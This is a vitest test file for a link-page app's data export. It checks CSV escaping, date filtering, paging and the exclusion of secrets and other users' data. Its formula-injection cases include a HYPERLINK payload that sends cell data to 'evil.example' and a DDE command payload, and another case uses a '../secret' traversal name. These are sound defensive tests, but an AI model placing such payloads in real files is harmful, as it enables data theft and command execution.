import { describe, expect, test } from 'vitest'
import type { Db } from '../../db/client.ts'
import { EXPORT_TABLES } from '../../db/queries/export-tables.ts'
import { conversionRevisions, conversions, sources } from '../../db/schema/index.ts'
import { ingestHits } from '../../src/domain/clicks/ingest.ts'
import { chanceOf } from '../../src/domain/demo/chance.ts'
import { EVERYTHING, openExport } from '../../src/domain/exports/commands.ts'
import { EXPORT_NAMES, exportRows } from '../../src/domain/exports/rows.ts'
import { freshDb } from '../support/db.ts'
import { aLink, NOON } from '../support/factories.ts'
import { aHit } from '../support/hits.ts'
import { randomHits } from '../support/traffic.ts'
import { theWorld } from '../support/world.ts'

const DAY = 86_400_000

async function fileOf(db: Db, userId: string, file: string, days = { from: '', to: '' }): Promise<string> {
	let text = ''
	for await (const piece of (await openExport({ db, userId, now: NOON }, file, days)).pieces) text += piece
	return text
}

const linesOf = async (...asked: Parameters<typeof fileOf>) =>
	(await fileOf(...asked))
		.split('\n')
		.filter(Boolean)
		.map((line) => JSON.parse(line))

/** A spreadsheet's reading of a CSV: cells of lines, quotes taken off. */
function cells(csv: string): string[][] {
	const rows: string[][] = [[]]
	for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
		if (plain === '' && quoted === undefined && end === '') break
		rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
		if (end === '\r\n') rows.push([])
	}
	return rows.filter((row) => row.length > 0)
}

describe('what a spreadsheet would run', () => {
	test.each([
		'=HYPERLINK("https://evil.example/?"&A1,"Click")',
		"=cmd|' /C calc'!A0",
		'+1+1',
		'-2+3',
		'@SUM(1+1)',
		'\t=1+1',
		'\r=1+1',
		'＝1+1',
		'＋1',
		'－1',
		'＠A1',
	])('%j is text', async (title) => {
		const db = freshDb()
		const { page } = await theWorld(db)
		await aLink(db, { profileId: page.id, publicId: 'nastynasty' }, { url: 'https://shop.example/', title })
		const csv = await fileOf(db, 'maya', 'links.csv')
		const row = cells(csv.slice(1)).find(([id]) => id === 'nastynasty')
		expect(row?.[2]).toBe(`'${title}`)
	})

	test.each(['a,"b"\r\n=c;\u202eæøå 😀', 'a\n=1+1', 'a\r=1+1', '"'])(
		'commas, quotes and lines stay in their cell: %j',
		async (title) => {
			const db = freshDb()
			const { page } = await theWorld(db)
			await aLink(db, { profileId: page.id, publicId: 'nastynasty' }, { url: 'https://shop.example/', title })
			const csv = await fileOf(db, 'maya', 'links.csv')
			expect(csv.startsWith('\ufeffid,position,title,url,')).toBe(true)
			const rows = cells(csv.slice(1))
			expect(new Set(rows.map((row) => row.length)).size).toBe(1)
			expect(rows.find(([id]) => id === 'nastynasty')?.[2]).toBe(title)
		},
	)

	test('a negative amount is a number', async () => {
		const db = freshDb()
		await withEarnings(db)
		expect(await fileOf(db, 'maya', 'earnings.csv')).toMatch(/,declined,-12\.5,,NOK,/)
		expect(JSON.parse(await fileOf(db, 'maya', 'earnings.json'))[0]).toMatchObject({
			amount: '-12.5',
			sale_amount: null,
		})
	})
})

async function withEarnings(db: Db) {
	const { page, desk } = await theWorld(db)
	const [source] = await db
		.insert(sources)
		.values({ profileId: page.id, door: 'hand', name: 'By hand', createdAt: NOON })
		.returning()
	const row = {
		publicId: 'moneymoney',
		profileId: page.id,
		sourceId: source?.id ?? 0,
		externalId: 'x',
		blockId: desk.id,
		status: 'declined',
		amount: -125_000,
		currency: 'NOK',
		occurredAt: NOON,
		createdAt: NOON,
		updatedAt: NOON,
	} as const
	const [made] = await db.insert(conversions).values(row).returning()
	await db
		.insert(conversionRevisions)
		.values({ conversionId: made?.id ?? 0, status: 'pending', amount: 125_000, currency: 'NOK', revisedAt: NOON })
	return page
}

describe('clicks', () => {
	test('of some days are those of the page’s own zone, both days included', async () => {
		const db = freshDb()
		const { page, desk } = await theWorld(db)
		const at = ['2026-03-28T22:59:59Z', '2026-03-28T23:00:00Z', '2026-03-29T21:59:59Z', '2026-03-29T22:00:00Z']
		await ingestHits(
			db,
			at.map((text) => aHit({ profileId: page.id, blockId: desk.id, at: Date.parse(text), visitor: null })),
		)
		const asked = (from: string, to: string) => linesOf(db, 'maya', 'clicks.jsonl', { from, to })
		expect((await asked('2026-03-29', '2026-03-29')).map((row) => row.at)).toEqual([
			'2026-03-28T23:00:00.000Z',
			'2026-03-29T21:59:59.000Z',
		])
		expect(await asked('2026-03-29', '')).toHaveLength(3)
		expect(await asked('', '2026-03-28')).toHaveLength(1)
		expect(await asked('', '')).toHaveLength(4)
		const { fileName, type } = await openExport({ db, userId: 'maya', now: NOON }, 'clicks.csv', {
			from: '2026-03-29',
			to: '',
		})
		expect([fileName, type]).toEqual([
			'vitrine-maya.lamps-clicks-2026-03-29--2026-10-14.csv',
			expect.stringMatching(/^text\/csv/),
		])
	})

	test('have words instead of numbers, and nothing that tells followers apart', async () => {
		const db = freshDb()
		const { page, desk } = await theWorld(db)
		const hit = aHit({
			profileId: page.id,
			blockId: desk.id,
			channel: 'tag:tt',
			referrer: 'example.org',
			bucket: 'owner',
		})
		await ingestHits(db, [hit])
		expect(await linesOf(db, 'maya', 'clicks.jsonl')).toEqual([
			{
				id: hit.id,
				at: '2026-10-14T12:00:00.000Z',
				what: 'click',
				counted_as: 'owner',
				link: 'deskdeskab',
				title: 'deskdeskab',
				channel: 'tag:tt',
				country: 'NO',
				device: 'phone',
				app: 'none',
				referrer: 'example.org',
			},
		])
	})

	test('of many pages are all there, once and in order, and are read no faster than they are taken', async () => {
		const db = freshDb()
		const { page, toms } = await theWorld(db)
		const hits = randomHits(3500, [page.id, toms.id], [{ from: NOON - 40 * DAY, to: NOON }], chanceOf(3))
		await ingestHits(db, hits)
		const rows = await linesOf(db, 'maya', 'clicks.jsonl')
		const mine = hits.filter((hit) => hit.profileId === page.id).map(({ id }) => id)
		expect(rows.map(({ id }) => id)).toEqual(mine.sort())
		const some = { from: '2026-09-20', to: '2026-10-01' }
		expect((await linesOf(db, 'maya', 'clicks.jsonl', some)).length).toBeLessThan(rows.length / 2)

		const pages = exportRows(db, { ownerId: 'maya', profileId: page.id }, 'clicks')
		await pages.next()
		await db.$client.execute('delete from hits')
		expect(await pages.next()).toEqual({ done: true, value: undefined })
	})

	test.each(['2026-13-01', 'yesterday', '2026-02-30'])('of %s are none', async (from) => {
		const db = freshDb()
		await theWorld(db)
		await expect(fileOf(db, 'maya', 'clicks.csv', { from, to: '' })).rejects.toThrow('data.noDate')
	})
})

test.each(EXPORT_NAMES)('%s goes on by its key from page to page', async (name) => {
	const db = freshDb()
	const page = await withEarnings(db)
	await ingestHits(db, randomHits(60, [page.id], [{ from: NOON - DAY, to: NOON }], chanceOf(4)))
	const table = EXPORT_TABLES[name]
	const whole: unknown[][] = []
	for await (const rows of exportRows(db, { ownerId: 'maya', profileId: page.id }, name)) whole.push(...rows)
	const usual = table.page
	try {
		Object.assign(table, { page: 2 })
		const piecewise: unknown[][] = []
		for await (const rows of exportRows(db, { ownerId: 'maya', profileId: page.id }, name)) {
			expect(rows.length).toBeLessThan(3)
			piecewise.push(...rows)
		}
		expect(piecewise).toEqual(whole)
	} finally {
		Object.assign(table, { page: usual })
	}
})

test('everything is one JSON document with every table, and nothing of it is another’s or a secret', async () => {
	const db = freshDb()
	const page = await withEarnings(db)
	await db.$client.executeMultiple(`
		insert into sessions (id, user_id, created_at, expires_at) values ('session hash', 'maya', 1, 2);
		insert into passkeys (id, user_id, name, public_key, counter, created_at)
			values ('credential id', 'maya', 'My phone', 'public key', 3, 1760443200000);
		insert into totps (user_id, nonce, created_at) values ('maya', 'nonce of the app', 1);
		insert into recovery_codes (id, user_id, created_at) values ('code hash', 'maya', 1);`)
	await db.$client.execute(
		"insert into api_tokens (user_id, name, token_hash, created_at) values ('maya', 'script', 'token hash', 1)",
	)
	await ingestHits(db, [aHit({ profileId: page.id })])
	const text = await fileOf(db, 'maya', EVERYTHING)
	const all = JSON.parse(text)
	expect(Object.keys(all)).toEqual(['exported_at', ...EXPORT_NAMES])
	expect(all.account).toEqual([{ email: 'maya@example.com', language: 'en', created_at: '2026-10-14T12:00:00.000Z' }])
	expect(all.links).toHaveLength(4)
	expect(all.tokens).toHaveLength(1)
	expect(all.passkeys).toEqual([{ name: 'My phone', created_at: '2025-10-14T12:00:00.000Z', used_at: null }])
	expect([all.totps.length, all.recovery_codes.length]).toEqual([1, 1])
	expect(all.clicks).toHaveLength(1)
	expect(all.counts.length).toBeGreaterThan(10)
	expect(all.earning_revisions).toMatchObject([{ earning: 'moneymoney', amount: '12.5' }])
	expect(text).not.toMatch(/session hash|token hash|credential id|public key|nonce of|code hash|"none"\}|tom@/)
	const toms = JSON.parse(await fileOf(db, 'tom', EVERYTHING))
	for (const name of EXPORT_NAMES) {
		const isToms = ['account', 'profile', 'handles', 'counting'].includes(name)
		expect([name, toms[name].length]).toEqual([name, isToms ? 1 : 0])
	}
	for (const name of EXPORT_NAMES) {
		const rows: unknown[] = []
		for await (const some of exportRows(db, { ownerId: 'tom', profileId: page.id }, name)) rows.push(...some)
		const isToms = ['account'].includes(name)
		expect([name, rows.length]).toEqual([name, isToms ? 1 : 0])
	}
})

test('every table of the database is exported, or is one that holds nothing of a creator’s', async () => {
	const db = freshDb()
	const { rows } = await db.$client.execute(
		"select name from sqlite_master where type = 'table' and name not like 'sqlite_%' and name not like '\\_\\_%' escape '\\'",
	)
	const sources = Object.values(EXPORT_TABLES)
		.map(({ from }) => from)
		.join(' ')
	const left = rows.map((row) => String(row.name)).filter((name) => !new RegExp(`\\b${name}\\b`).test(sources))
	expect(left.sort()).toEqual(NOT_EXPORTED)
})

/** Batches on their way, hashes of secrets, what is kept of followers for days, words that everyone shares, and the machine's own. */
const NOT_EXPORTED = [
	'arrivals',
	'challenges',
	'departures',
	'host_visitors',
	'idempotent_answers',
	'invitations',
	'new_words',
	'password_resets',
	'salts',
	'taps',
	'throttles',
	'visitors',
	'words',
	'zone_offsets',
]

test.each([
	'nothing.csv',
	'users.csv',
	'clicks.xlsx',
	'clicks',
	'everything.csv',
	'clicks.csv.html',
	'everything.json.csv',
	'../secret',
	'constructor.csv',
])('there is no file %s', async (file) => {
	const db = freshDb()
	await theWorld(db)
	await expect(fileOf(db, 'maya', file)).rejects.toThrow('data.noFile')
})
